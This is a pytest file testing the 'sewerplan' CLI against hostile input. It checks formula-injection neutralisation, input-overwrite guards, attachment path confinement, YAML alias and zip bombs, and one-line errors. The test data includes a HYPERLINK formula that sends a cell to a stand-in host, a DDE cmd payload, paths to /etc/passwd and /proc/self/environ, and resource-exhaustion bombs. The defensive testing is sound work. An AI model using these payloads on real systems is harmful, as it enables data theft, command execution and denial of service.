"""Hostile and broken input (issue 16, items 1, 2, 4, 5, 7, 9-13; issue 14 item 6).

Each test reproduces one finding of the red-team pass and asserts the safe behaviour: text from
inputs is written as text, no input is overwritten, no local file is attached, no number is
infinite, scenario files and model archives cannot exhaust the machine, the model card cannot be
edited, every error is one line, and runs lock, clean up and mark their output folders.
"""

from __future__ import annotations

import base64
import errno
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from sewerplan.cli import app
from sewerplan.model import fileio
from sewerplan.model.errors import (InputFileError, ModelLoadError, OutputBusyError, OutputFileError,
                                    OutputInUseError, ParameterError, ResultsBundleError, ScenarioFileError)

SAMPLE = Path(__file__).resolve().parents[1] / "sewerplan" / "sample_data" / "sample_buildings.csv"
runner = CliRunner()
INJECTED_ID = '=HYPERLINK("http://evil.example/"&C5,"x")'
INJECTED_DISTRICT = "=1+2"


def _one_line_error(result) -> str:
    """The CLI said one readable error line (no traceback) and exited non-zero."""
    assert result.exit_code != 0, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code in (1, 2) and result.output.count("오류 (error)") == 1
    return result.output


def _hostile_table(tmp_path: Path, rows: int = 20) -> Path:
    """The sample table with a formula as building id and as district in the first rows."""
    df = pd.read_csv(SAMPLE, dtype=str, encoding="utf-8").head(rows)
    df.loc[0, "관리건축물대장PK"] = INJECTED_ID
    df.loc[0, "배수구역"] = INJECTED_DISTRICT
    df.loc[1, "관리건축물대장PK"] = "@SUM(A1:A9)"
    p = tmp_path / "hostile.csv"
    df.to_csv(p, index=False, encoding="utf-8")
    return p


def _formulas(xlsx: Path) -> list[str]:
    with zipfile.ZipFile(xlsx) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


# --------------------------------------------------------------------------------------
# 1. formula injection
# --------------------------------------------------------------------------------------


def test_estimate_workbook_writes_input_text_as_text_not_formulas(tmp_path):
    out = tmp_path / "i.xlsx"
    r = runner.invoke(app, ["estimate", str(_hostile_table(tmp_path)), "--out", str(out)])
    assert r.exit_code == 0, r.output
    assert _formulas(out) == []
    ws = load_workbook(out)["건축물별 결과"]
    cells = {c.value: c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert cells[INJECTED_ID] == "s" and cells[INJECTED_DISTRICT] == "s"


def test_estimate_csv_outputs_neutralise_formula_cells(tmp_path):
    out = tmp_path / "i.csv"
    r = runner.invoke(app, ["estimate", str(_hostile_table(tmp_path)), "--out", str(out)])
    assert r.exit_code == 0, r.output
    for p in (out, tmp_path / "i.districts.csv"):
        text = p.read_text(encoding="utf-8-sig")
        cells = [c.strip('"') for line in text.splitlines() for c in line.split(",")]
        assert not [c for c in cells if c[:1] in ("=", "@")], p
    buildings = pd.read_csv(out, dtype=str, encoding="utf-8-sig")
    assert "'" + INJECTED_ID in set(buildings["building_id"])
    assert "'@SUM(A1:A9)" in set(buildings["building_id"])


def test_csv_writer_neutralises_headers_and_text_but_not_numbers(tmp_path):
    df = pd.DataFrame({"=cmd|' /C calc'!A0": ["-2+3", "+82-10-1234", "-5", "plain", "\tx"], "n": [-1.5, 2, 3, 4, 5]})
    fileio.write_csv_atomic(df, tmp_path / "p.csv")
    back = pd.read_csv(tmp_path / "p.csv", dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert list(back.columns) == ["'=cmd|' /C calc'!A0", "n"]
    assert list(back.iloc[:, 0]) == ["'-2+3", "'+82-10-1234", "-5", "plain", "'\tx"]
    assert back["n"].iloc[0] == "-1.5"


def test_rejected_rows_file_neutralises_formulas(tmp_path):
    src = _hostile_table(tmp_path)
    df = pd.read_csv(src, dtype=str)
    df.loc[0, "연면적(㎡)"] = "-1"  # make the hostile row a rejected row
    df.to_csv(src, index=False)
    r = runner.invoke(app, ["estimate", str(src), "--out", str(tmp_path / "o.csv"), "--skip-invalid"])
    assert r.exit_code == 0, r.output
    text = (tmp_path / "o.rejected.csv").read_text(encoding="utf-8-sig")
    assert INJECTED_DISTRICT not in text.replace("'" + INJECTED_DISTRICT, "")


def test_scenario_and_comparison_workbooks_write_text_as_text(tmp_path):
    from sewerplan.model.outputs.scenario_outputs import write_comparison
    from sewerplan.model.planning.scenario import load_scenario, write_scenario_workbook

    s = load_scenario(_scenario_file(tmp_path, district=INJECTED_DISTRICT))
    write_scenario_workbook(s, tmp_path / "s.xlsx")
    assert _formulas(tmp_path / "s.xlsx") == []
    summary = pd.DataFrame({"scenario": [INJECTED_ID], "households": [1.0]})
    write_comparison(summary, summary, tmp_path / "c.xlsx")
    assert _formulas(tmp_path / "c.xlsx") == []


def test_excel_template_writes_building_table_text_as_text(tmp_path):
    pytest.importorskip("xlwings")
    from sewerplan.xl_addin import template

    df = template._sample_buildings().head(5).copy()
    df.iloc[0, 0] = INJECTED_ID
    out = template.build_template(tmp_path / "t.xlsm", buildings=df, write_shim=False)
    wb = load_workbook(out, keep_vba=True)
    ws = next(ws for ws in wb.worksheets if any(c.value == INJECTED_ID for row in ws.iter_rows() for c in row))
    cell = next(c for row in ws.iter_rows() for c in row if c.value == INJECTED_ID)
    assert cell.data_type == "s"


# --------------------------------------------------------------------------------------
# 2. no input is overwritten; every written file passes the same check
# --------------------------------------------------------------------------------------


def test_estimate_side_file_never_overwrites_the_input(tmp_path):
    src = tmp_path / "X.districts.csv"
    shutil.copy(SAMPLE, src)
    before = src.read_bytes()
    r = runner.invoke(app, ["estimate", str(src), "--out", str(tmp_path / "X.csv"), "--force"])
    assert "input" in _one_line_error(r)
    assert src.read_bytes() == before
    assert not (tmp_path / "X.csv").exists()


def test_existing_side_file_is_replaced_only_with_force(tmp_path):
    side = tmp_path / "O.districts.csv"
    side.write_text("keep me", encoding="utf-8")
    r = runner.invoke(app, ["estimate", str(SAMPLE), "--out", str(tmp_path / "O.csv")])
    assert "--force" in _one_line_error(r)
    assert side.read_text(encoding="utf-8") == "keep me"
    assert not (tmp_path / "O.csv").exists()
    r = runner.invoke(app, ["estimate", str(SAMPLE), "--out", str(tmp_path / "O.csv"), "--force"])
    assert r.exit_code == 0 and side.read_text(encoding="utf-8-sig").startswith("district")


def test_excel_template_never_replaces_a_users_python_file(tmp_path):
    pytest.importorskip("xlwings")
    mine = tmp_path / "mine.py"
    mine.write_text("print('my own code')\n", encoding="utf-8")
    for extra in ([], ["--force"]):
        r = runner.invoke(app, ["excel", "template", "--out", str(tmp_path / "mine.xlsm"), *extra])
        assert r.exit_code != 0 and "Traceback" not in r.output
        assert mine.read_text(encoding="utf-8") == "print('my own code')\n"
    assert not (tmp_path / "mine.xlsm").exists()


def test_excel_template_refuses_a_name_that_shadows_a_standard_module(tmp_path):
    pytest.importorskip("xlwings")
    r = runner.invoke(app, ["excel", "template", "--out", str(tmp_path / "os.xlsm")])
    assert r.exit_code != 0 and "os" in r.output
    assert not (tmp_path / "os.py").exists() and not (tmp_path / "os.xlsm").exists()


def test_output_check_sees_hard_links_to_an_input(tmp_path):
    src = tmp_path / "in.csv"
    src.write_text("a\n", encoding="utf-8")
    os.link(src, tmp_path / "link.csv")
    with pytest.raises(InputFileError, match="input"):
        fileio.check_outputs([tmp_path / "link.csv"], inputs=[src], force=True)


# --------------------------------------------------------------------------------------
# 4. attachments: only the run's own files, never local files
# --------------------------------------------------------------------------------------


def _bundle_file(tmp_path: Path, attachments=None, edit=None) -> Path:
    from sewerplan.model.outputs.results import example_bundle

    folder = tmp_path / "run"
    folder.mkdir(exist_ok=True)
    data = example_bundle().to_dict()
    if attachments is not None:
        data["attachments"] = attachments
    if edit:
        edit(data)
    p = folder / "results.json"
    p.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return p


@pytest.mark.parametrize("path, why", [("/etc/passwd", "relative"), ("/proc/self/environ", "relative"),
                                       ("../secret.txt", "leaves"), ("sub/../../secret.txt", "leaves")])
def test_bundle_cannot_attach_files_outside_its_folder(tmp_path, path, why):
    from sewerplan.model.outputs.results import ResultsBundle

    (tmp_path / "secret.txt").write_text("secret", encoding="utf-8")
    p = _bundle_file(tmp_path, [{"name": "x.txt", "path": path}])
    (p.parent / "sub").mkdir()
    bundle = ResultsBundle.from_json(p)
    with pytest.raises(ResultsBundleError, match=why):
        bundle.attachment_files()


def test_bundle_cannot_attach_through_a_symlink_out_of_its_folder(tmp_path):
    from sewerplan.model.outputs.results import ResultsBundle

    p = _bundle_file(tmp_path, [{"name": "x.txt", "path": "link.txt"}])
    (tmp_path / "secret.txt").write_text("secret", encoding="utf-8")
    (p.parent / "link.txt").symlink_to(tmp_path / "secret.txt")
    with pytest.raises(ResultsBundleError, match="leaves"):
        ResultsBundle.from_json(p).attachment_files()


def test_bundle_attaches_a_file_of_its_own_folder_and_valid_base64(tmp_path):
    from sewerplan.model.outputs.results import ResultsBundle

    data64 = base64.b64encode(b"a,b\n1,2\n").decode()
    p = _bundle_file(tmp_path, [{"name": "in.csv", "path": "in.csv"}, {"name": "e.csv", "content_base64": data64}])
    (p.parent / "in.csv").write_text("x\n", encoding="utf-8")
    files = ResultsBundle.from_json(p).attachment_files()
    assert [(n, b) for n, _, b in files] == [("in.csv", b"x\n"), ("e.csv", b"a,b\n1,2\n")]


def test_bundle_with_broken_base64_is_one_clear_error(tmp_path):
    from sewerplan.model.outputs.results import ResultsBundle

    p = _bundle_file(tmp_path, [{"name": "e.csv", "content_base64": "not*base64!"}])
    with pytest.raises(ResultsBundleError, match="base64"):
        ResultsBundle.from_json(p).attachment_files()


# --------------------------------------------------------------------------------------
# 5. non-finite and absurd numbers (results bundles, scenario plans, JSON outputs)
# --------------------------------------------------------------------------------------


def _set_flow(value):
    def edit(d):
        d["planned"][0]["pilot_formula"]["day_max_m3_per_day"] = value
    return edit


@pytest.mark.parametrize("raw", ["NaN", "Infinity", "-Infinity", "1e400", "1e308", "1" + "0" * 400])
def test_bundle_refuses_non_finite_and_absurd_numbers(tmp_path, raw):
    from sewerplan.model.outputs.results import ResultsBundle

    p = _bundle_file(tmp_path, edit=_set_flow(123.0))
    p.write_text(p.read_text(encoding="utf-8").replace("123.0", raw, 1), encoding="utf-8")
    with pytest.raises(ResultsBundleError):
        ResultsBundle.from_json(p)


def test_bundle_refuses_an_infinite_or_huge_whole_number(tmp_path):
    from sewerplan.model.outputs.results import ResultsBundle

    for raw in ("1e400", "1" + "0" * 400):
        def edit(d):
            d["metadata"]["n_districts_marker"] = None
        p = _bundle_file(tmp_path)
        text = p.read_text(encoding="utf-8")
        assert '"n_training_buildings": ' in text
        key = '"n_training_buildings": '
        start = text.index(key) + len(key)
        end = start + len(text[start:].split(",")[0].split("}")[0])
        p.write_text(text[:start] + raw + text[end:], encoding="utf-8")
        with pytest.raises(ResultsBundleError, match="whole number|beyond"):
            ResultsBundle.from_json(p)


def test_report_on_a_bundle_with_infinity_is_one_line(tmp_path):
    p = _bundle_file(tmp_path, edit=_set_flow(123.0))
    p.write_text(p.read_text(encoding="utf-8").replace("123.0", "1e400", 1), encoding="utf-8")
    r = runner.invoke(app, ["report", "council", "--results", str(p), "--out", str(tmp_path / "c.pdf")])
    assert "finite" in _one_line_error(r)


@pytest.mark.parametrize("value", ["inf", ".inf", "1e308", "-1"])
def test_scenario_plan_refuses_non_finite_and_absurd_dwellings(tmp_path, value):
    from sewerplan.model.planning.scenario import load_scenario

    with pytest.raises(ScenarioFileError, match="dwellings"):
        load_scenario(_scenario_file(tmp_path, dwellings=value))


def test_scenario_settings_refuse_infinite_plant_capacity(tmp_path):
    from sewerplan.model.planning.scenario import load_scenario

    with pytest.raises(ScenarioFileError, match="plant_capacity"):
        load_scenario(_scenario_file(tmp_path, settings="plant_capacity_m3_per_day: .inf"))


def test_json_outputs_never_hold_nan_or_infinity(tmp_path):
    from sewerplan.model.ml.card import write_card

    obj = {"a": float("nan"), "b": [float("inf"), -float("inf"), 1.5], "c": {"d": 2}}
    fileio.write_json_atomic(tmp_path / "x.json", obj)
    write_card(obj, tmp_path / "card.json")
    for name in ("x.json", "card.json"):
        back = json.loads((tmp_path / name).read_text(encoding="utf-8"), parse_constant=_no_constant)
        assert back == {"a": None, "b": [None, None, 1.5], "c": {"d": 2}}


def _no_constant(name):
    raise AssertionError(f"{name} written to JSON")


# --------------------------------------------------------------------------------------
# 7. scenario files cannot exhaust the machine
# --------------------------------------------------------------------------------------


def _scenario_file(tmp_path: Path, dwellings="100", district="D1", settings="end_year: 2030", name="s.yaml",
                   extra="") -> Path:
    text = (f"name: test\n{extra}settings:\n  {settings}\n  synthetic: true\nplan:\n"
            f"- block: A\n  district: '{district}'\n  main_use: 아파트\n  dwellings: {dwellings}\n"
            f"  completion_year: 2028\n")
    p = tmp_path / name
    p.write_text(text, encoding="utf-8")
    return p


_BOMB_PROBE = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (3 * 2**30, 3 * 2**30))
from sewerplan.model.errors import InputFileError
from sewerplan.model.planning.scenario import load_scenario
try:
    load_scenario(sys.argv[1])
except InputFileError as exc:
    print("REFUSED", exc)
"""


def test_yaml_alias_bomb_is_refused(tmp_path):
    chain = ['&a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        prev, cur = chr(ord("a") + i - 1), chr(ord("a") + i)
        chain.append(f"&{cur} [{', '.join(['*' + prev] * 9)}]")
    p = tmp_path / "bomb.yaml"  # 538 bytes of YAML; 9**9 strings once the description is expanded
    p.write_text(f"name: x\ndescription: [{', '.join(chain)}]\nplan:\n- {{block: A, district: D, main_use: 아파트, "
                 f"dwellings: 10, completion_year: 2030}}\n", encoding="utf-8")
    try:  # in a child process with 3 GiB of address space, so the old behaviour cannot take the machine down
        r = subprocess.run([sys.executable, "-c", _BOMB_PROBE, str(p)], capture_output=True, text=True, timeout=30)
    except subprocess.TimeoutExpired:
        pytest.fail("the alias bomb ran for 30 s")
    assert r.stdout.startswith("REFUSED") and "alias" in r.stdout, r.stdout + r.stderr[-500:]


def test_yaml_aliases_within_the_limit_still_work_but_expansion_is_bounded(tmp_path):
    from sewerplan.model.planning.scenario import _expanded_size

    nested = [["x"] * 1000] * 1000  # one list shared a thousand times: 1e6 values when expanded
    assert _expanded_size(nested) > 200_000
    assert _expanded_size({"a": [1, 2, 3]}) == 6


def test_scenario_end_year_far_away_is_refused(tmp_path):
    from sewerplan.model.planning.scenario import load_scenario

    with pytest.raises(ScenarioFileError, match="end_year"):
        load_scenario(_scenario_file(tmp_path, settings="end_year: 999999"))
    with pytest.raises(ScenarioFileError, match="span|years"):
        load_scenario(_scenario_file(tmp_path, settings="end_year: 2199"))


def test_scenario_base_loops_and_deep_chains_are_refused(tmp_path):
    from sewerplan.model.planning.scenario import load_scenario

    _scenario_file(tmp_path, name="a.yaml", extra="base: b.yaml\n")
    _scenario_file(tmp_path, name="b.yaml", extra="base: a.yaml\n")
    with pytest.raises(ScenarioFileError, match="loop"):
        load_scenario(tmp_path / "a.yaml")
    _scenario_file(tmp_path, name="self.yaml", extra="base: self.yaml\n")
    with pytest.raises(ScenarioFileError, match="loop"):
        load_scenario(tmp_path / "self.yaml")
    _scenario_file(tmp_path, name="c0.yaml")
    for i in range(1, 9):
        _scenario_file(tmp_path, name=f"c{i}.yaml", extra=f"base: c{i - 1}.yaml\n")
    assert load_scenario(tmp_path / "c3.yaml").name == "test"  # a short chain still works
    with pytest.raises(ScenarioFileError, match="deeper"):
        load_scenario(tmp_path / "c8.yaml")


def test_scenario_simulations_are_bounded(tmp_path):
    from sewerplan.model.planning.scenario_run import run_scenario

    with pytest.raises(ParameterError, match="n_simulations"):
        run_scenario(_scenario_file(tmp_path), model=False, n_simulations=2_000_000_000)
    r = runner.invoke(app, ["scenario", "run", str(_scenario_file(tmp_path)), "--out", str(tmp_path / "o"),
                            "--simulations", "2000000000"])
    assert r.exit_code == 2 and "Traceback" not in r.output
    assert not (tmp_path / "o").exists()


def test_scenario_plan_expanding_to_millions_of_buildings_is_refused(tmp_path):
    from sewerplan.model.planning.scenario import expand_scenario, load_scenario

    p = _scenario_file(tmp_path, dwellings="1000000")
    p.write_text(p.read_text(encoding="utf-8").replace("아파트", "단독주택"), encoding="utf-8")
    with pytest.raises(ScenarioFileError, match="buildings"):
        expand_scenario(load_scenario(p))


# --------------------------------------------------------------------------------------
# 9, 10. the model card is bound to the model file; zip bombs are refused unread
# --------------------------------------------------------------------------------------


@pytest.fixture()
def model_copy(tmp_path):
    from sewerplan.model.ml.persistence import card_path_for, default_model_path

    src = default_model_path()
    dst = tmp_path / "m.skops"
    shutil.copy(src, dst)
    shutil.copy(card_path_for(src), card_path_for(dst))
    return dst


def test_bundled_model_loads_and_carries_its_synthetic_warning(model_copy):
    from sewerplan.model.ml.persistence import load_model

    m = load_model(model_copy)
    assert m.card["synthetic"] is True and "SYNTHETIC" in m.note


@pytest.mark.parametrize("edit", [{"synthetic": False}, {"prediction_note": ""}, {"region": "US-NYC"}])
def test_editing_the_model_card_is_refused(model_copy, edit):
    from sewerplan.model.ml.persistence import card_path_for, load_model

    card_path = card_path_for(model_copy)
    card = json.loads(card_path.read_text(encoding="utf-8"))
    card.update(edit)
    card_path.write_text(json.dumps(card, ensure_ascii=False, indent=2), encoding="utf-8")
    with pytest.raises(ModelLoadError, match="changed after"):
        load_model(model_copy)


@pytest.mark.parametrize("text", ["[1, 2]", "{\"model_id\": 3}", "{not json", "\"\"", "{}"])
def test_malformed_model_cards_are_one_clear_error(model_copy, text, tmp_path):
    from sewerplan.model.ml.persistence import card_path_for, load_model

    card_path_for(model_copy).write_text(text, encoding="utf-8")
    with pytest.raises(ModelLoadError):
        load_model(model_copy)
    r = runner.invoke(app, ["predict", str(SAMPLE), "--model", str(model_copy), "--out", str(tmp_path / "p.csv")])
    assert "card" in _one_line_error(r).lower()


def test_zip_bomb_model_is_refused_from_the_zip_directory(model_copy):
    from sewerplan.model.ml.persistence import load_model

    data = bytearray(model_copy.read_bytes())
    at = data.find(b"PK\x01\x02")  # first central-directory entry: uncompressed size at offset 24
    data[at + 24:at + 28] = (0xFFFFFFF0).to_bytes(4, "little")
    model_copy.write_bytes(bytes(data))
    with pytest.raises(ModelLoadError, match="unpack"):
        load_model(model_copy)


# --------------------------------------------------------------------------------------
# 11. Excel's row limit
# --------------------------------------------------------------------------------------


def test_workbook_over_excels_row_limit_is_refused_and_nothing_written(tmp_path):
    from sewerplan.model.outputs.workbook import write_results_workbook

    big = pd.DataFrame({"building_id": ["b"] * (fileio.EXCEL_MAX_ROWS - 1)})
    small = pd.DataFrame({"district": ["d"]})
    with pytest.raises(OutputFileError, match="1,048,576"):
        write_results_workbook(tmp_path / "big.xlsx", big, small)
    assert list(tmp_path.iterdir()) == []


def test_estimate_to_xlsx_over_the_row_limit_says_use_csv(tmp_path, monkeypatch):
    monkeypatch.setattr(fileio, "EXCEL_MAX_ROWS", 100)  # the sample has 867 rows
    r = runner.invoke(app, ["estimate", str(SAMPLE), "--out", str(tmp_path / "o.xlsx")])
    assert ".csv" in _one_line_error(r)
    assert not (tmp_path / "o.xlsx").exists()


# --------------------------------------------------------------------------------------
# 12. one readable line instead of a traceback
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize("content", [os.urandom(4096), SAMPLE.read_bytes()])
def test_not_really_xlsx_is_one_line(tmp_path, content):
    p = tmp_path / "t.xlsx"
    p.write_bytes(content)
    r = runner.invoke(app, ["estimate", str(p), "--out", str(tmp_path / "o.csv")])
    assert _one_line_error(r).count("오류 (error)") == 1


def test_model_that_is_not_a_zip_is_one_line(tmp_path, model_copy):
    model_copy.write_bytes(b"not a zip at all")
    r = runner.invoke(app, ["predict", str(SAMPLE), "--model", str(model_copy), "--out", str(tmp_path / "p.csv")])
    assert "model" in _one_line_error(r).lower()


def test_deeply_nested_bundle_is_one_line(tmp_path):
    p = tmp_path / "results.json"
    p.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    r = runner.invoke(app, ["report", "council", "--results", str(p), "--out", str(tmp_path / "c.pdf")])
    assert "JSON" in _one_line_error(r)


def test_billing_in_another_encoding_is_one_line(tmp_path):
    sample = SAMPLE.parent
    lines = pd.read_csv(sample / "synthetic_existing_billing.csv.gz", dtype=str, nrows=2000)
    billing = tmp_path / "billing.csv"
    lines.to_csv(billing, index=False, encoding="utf-16")
    r = runner.invoke(app, ["prepare", "--register", str(sample / "synthetic_existing_register.csv"),
                            "--billing", str(billing), "--out", str(tmp_path / "joined")])
    assert _one_line_error(r).count("오류 (error)") == 1


def test_disk_full_is_one_line_and_leaves_old_file_and_no_temp(tmp_path, monkeypatch):
    out = tmp_path / "o.csv"
    assert runner.invoke(app, ["estimate", str(SAMPLE), "--out", str(out)]).exit_code == 0
    before = out.read_bytes()

    def full(self, path, *a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    r = runner.invoke(app, ["estimate", str(SAMPLE), "--out", str(out), "--force"])
    assert "disk" in _one_line_error(r).lower()
    assert out.read_bytes() == before
    assert not list(tmp_path.glob(".*.tmp"))


# --------------------------------------------------------------------------------------
# 13. stale temp files, incomplete runs, concurrent runs
# --------------------------------------------------------------------------------------


def test_stale_temp_files_of_a_killed_run_are_removed(tmp_path):
    stale = tmp_path / ".o.csv.sewerplan-abc123.tmp"
    stale.write_text("half a file", encoding="utf-8")
    r = runner.invoke(app, ["estimate", str(SAMPLE), "--out", str(tmp_path / "o.csv")])
    assert r.exit_code == 0, r.output
    assert not stale.exists()


def test_second_run_into_a_locked_folder_is_refused(tmp_path):
    with fileio.output_run(tmp_path, "test"):
        r = runner.invoke(app, ["estimate", str(SAMPLE), "--out", str(tmp_path / "o.csv")])
        assert "Another sewerplan run" in _one_line_error(r)
        assert not (tmp_path / "o.csv").exists()
    r = runner.invoke(app, ["estimate", str(SAMPLE), "--out", str(tmp_path / "o.csv")])
    assert r.exit_code == 0, r.output
    assert not (tmp_path / fileio.LOCK_NAME).exists()


def test_output_run_marks_incomplete_until_success(tmp_path):
    marker = tmp_path / fileio.INCOMPLETE_MARKER
    with pytest.raises(RuntimeError):
        with fileio.output_run(tmp_path, "test"):
            assert marker.exists()
            (tmp_path / "half.csv").write_text("x", encoding="utf-8")
            raise RuntimeError("killed half-way")
    assert marker.exists()  # something was written: the folder stays marked
    with fileio.output_run(tmp_path, "test"):
        pass
    assert not marker.exists()
    with pytest.raises(OutputBusyError):
        with fileio.output_run(tmp_path), fileio.output_run(tmp_path):
            pass


def test_killed_scenario_run_leaves_an_incomplete_marker_and_no_lock(tmp_path):
    out = tmp_path / "o"
    scen = _scenario_file(tmp_path, dwellings="3000")
    proc = subprocess.Popen([sys.executable, "-m", "sewerplan", "scenario", "run", str(scen), "--out", str(out),
                             "--simulations", "200000"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    marker = out / fileio.INCOMPLETE_MARKER
    deadline = time.time() + 60
    while not marker.exists() and proc.poll() is None and time.time() < deadline:
        time.sleep(0.05)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    assert marker.exists(), "the run ended before it could be killed"
    assert "did not finish" in marker.read_text(encoding="utf-8")
    r = runner.invoke(app, ["scenario", "run", str(scen), "--out", str(out), "--force", "--no-ml"])
    assert r.exit_code == 0, r.output
    assert not marker.exists() and (out / "summary.json").exists()


def test_report_refuses_a_bundle_from_an_incomplete_run(tmp_path):
    p = _bundle_file(tmp_path)
    (p.parent / fileio.INCOMPLETE_MARKER).write_text("x", encoding="utf-8")
    r = runner.invoke(app, ["report", "council", "--results", str(p), "--out", str(tmp_path / "c.pdf")])
    assert "did not finish" in _one_line_error(r)


# --------------------------------------------------------------------------------------
# issue 14 item 6: an output Excel holds open
# --------------------------------------------------------------------------------------


def test_output_open_in_excel_says_close_it_and_keeps_the_old_file(tmp_path, monkeypatch):
    out = tmp_path / "결과.csv"
    assert runner.invoke(app, ["estimate", str(SAMPLE), "--out", str(out)]).exit_code == 0
    before = out.read_bytes()
    real_replace = os.replace

    def excel_holds(src, dst):  # what Windows does while Excel has the file open
        if Path(dst).name == out.name:
            raise PermissionError(errno.EACCES, "Permission denied", str(dst))
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", excel_holds)
    r = runner.invoke(app, ["estimate", str(SAMPLE), "--out", str(out), "--force"])
    assert "close 결과.csv in Excel" in _one_line_error(r)
    assert out.read_bytes() == before
    assert not list(tmp_path.glob(".*.tmp"))


def test_excel_lock_is_detected_before_the_run_starts(tmp_path, monkeypatch):
    out = tmp_path / "o.csv"
    out.write_text("old", encoding="utf-8")
    import builtins

    real_open = builtins.open

    def locked(file, mode="r", *a, **k):
        if Path(str(file)) == out and "+" in mode:
            raise PermissionError(errno.EACCES, "Permission denied", str(file))
        return real_open(file, mode, *a, **k)

    monkeypatch.setattr(builtins, "open", locked)
    with pytest.raises(OutputInUseError, match="close o.csv in Excel"):
        fileio.check_outputs([out], force=True)
    assert out.read_text(encoding="utf-8") == "old"


def test_a_device_or_pipe_is_never_replaced_by_an_output(tmp_path):
    """`--out /dev/null` once replaced the machine's /dev/null with a regular file (the atomic move)."""
    import os

    from sewerplan.model.errors import InputFileError
    from sewerplan.model.fileio import check_output_path, write_text_atomic

    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    for attempt in (lambda: check_output_path(fifo, force=True), lambda: write_text_atomic(fifo, "x")):
        with pytest.raises(InputFileError, match="device or pipe"):
            attempt()
    assert not fifo.is_file() and fifo.exists()  # still the pipe
